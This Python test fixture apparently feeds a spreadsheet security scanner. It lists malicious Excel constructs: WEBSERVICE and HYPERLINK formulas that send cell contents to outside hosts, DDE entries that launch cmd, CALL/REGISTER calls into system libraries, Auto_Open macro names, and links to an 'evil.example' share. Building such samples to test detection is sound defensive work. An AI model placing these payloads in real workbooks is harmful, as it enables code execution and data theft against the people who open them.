"""Workbooks that fetch or run something, in every way that somebody thought of."""

from __future__ import annotations

from tests.attacks.office_files import (
    Maker,
    book,
    formula,
    relation,
)

EXCEL: dict[str, Maker] = {
    "WEBSERVICE": formula("_xlfn.WEBSERVICE(&quot;https://example.org/?&quot;&amp;A1)"),
    "WEBSERVICE in small letters": formula("1+webservice( A1)"),
    "WEBSERVICE handed on": formula("_xlfn.MAP(A1:A3,_xleta.WEBSERVICE)"),
    "IMAGE": formula("_xlfn.IMAGE(&quot;https://example.org/i.png&quot;)"),
    "RTD": formula("RTD(&quot;x&quot;,,&quot;y&quot;)"),
    "STOCKHISTORY": formula("_xlfn.STOCKHISTORY(&quot;MSFT&quot;,1)"),
    "CALL": formula("CALL(&quot;urlmon&quot;,&quot;x&quot;)"),
    "REGISTER": formula("REGISTER.ID(&quot;kernel32&quot;,&quot;x&quot;)"),
    "DDE": formula("cmd|&apos;/C calc&apos;!A0"),
    "add-in": formula("_xll.RunIt(1)"),
    "link to a share": formula("HYPERLINK(&quot;\\\\evil.example\\s&quot;,&quot;x&quot;)"),
    "link to a file": formula("HYPERLINK(&quot;file:///c:/x.exe&quot;)"),
    "link that carries a cell away": formula("HYPERLINK(&quot;https://example.org/?&quot;&amp;A1,&quot;x&quot;)"),
    "another workbook": formula("[1]Sheet1!A1"),
    "another workbook on a share": formula("&apos;\\\\evil.example\\s\\[b.xlsx]Sheet1&apos;!A1"),
    "formula by references": formula("&#87;EBSERVICE(A1)"),
    "defined name": lambda: book(names="<definedName name='x'>_xlfn.WEBSERVICE(Sheet1!A1)</definedName>"),
    "macro name": lambda: book(names="<definedName name='_xlnm.Auto_Open' xlm='1'>Sheet1!A1</definedName>"),
    "condition": lambda: book(
        "<conditionalFormatting><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"
    ),
    "validation": lambda: book("<dataValidation><formula1>WEBSERVICE(A1)</formula1></dataValidation>"),
    "table column": lambda: book(
        more={"xl/tables/t.xml": "<t><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></t>"}
    ),
    "external book": lambda: book(
        more={"xl/externalLinks/e.xml": "<externalLink><externalBook/></externalLink>"},
        kinds={"/xl/externalLinks/e.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"},
    ),
    "DDE link": lambda: book(more={"xl/x.xml": "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"}),
    "connection": lambda: book(
        more={"xl/c.xml": "<connections><connection><webPr url='https://example.org'/></connection></connections>"},
        kinds={"/xl/c.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"},
    ),
    "connection called something else": lambda: book(more={"xl/c.xml": "<connections><connection/></connections>"}),
    "query": lambda: book(more={"xl/q.xml": "<queryTable connectionId='1'/>"}),
    "pivot of outside data": lambda: book(
        more={"xl/p.xml": "<pivotCacheDefinition><cacheSource type='external'/></pivotCacheDefinition>"}
    ),
    "macro sheet": lambda: book(more={"xl/m.xml": "<a/>"}, kinds={"/xl/m.xml": "application/vnd.ms-excel.macrosheet+xml"}),
    "macro sheet by another name": lambda: book(
        more={"xl/worksheets/sheet9.xml": "<a/>"},
        kinds={"/xl/worksheets/sheet9.xml": "application/vnd.ms-excel.intlmacrosheet+xml"},
    ),
    "binary workbook": lambda: book(
        kinds={"/xl/worksheets/sheet1.xml": "application/vnd.ms-excel.sheet.binary.macroEnabled.main"}
    ),
    "picture with a macro": lambda: book(more={"xl/drawings/d.xml": "<pic macro='[0]!Run'/>"}),
    "embedded object": lambda: book("<oleObjects><oleObject progId='Package'/></oleObjects>"),
    "published page": lambda: book("<webPublishItems><webPublishItem destinationFile='\\\\evil.example\\x'/></webPublishItems>"),
    "link of a cell to a share": lambda: book(
        more={"xl/worksheets/_rels/sheet1.xml.rels": relation("hyperlink", "\\\\evil.example\\s")}
    ),
}
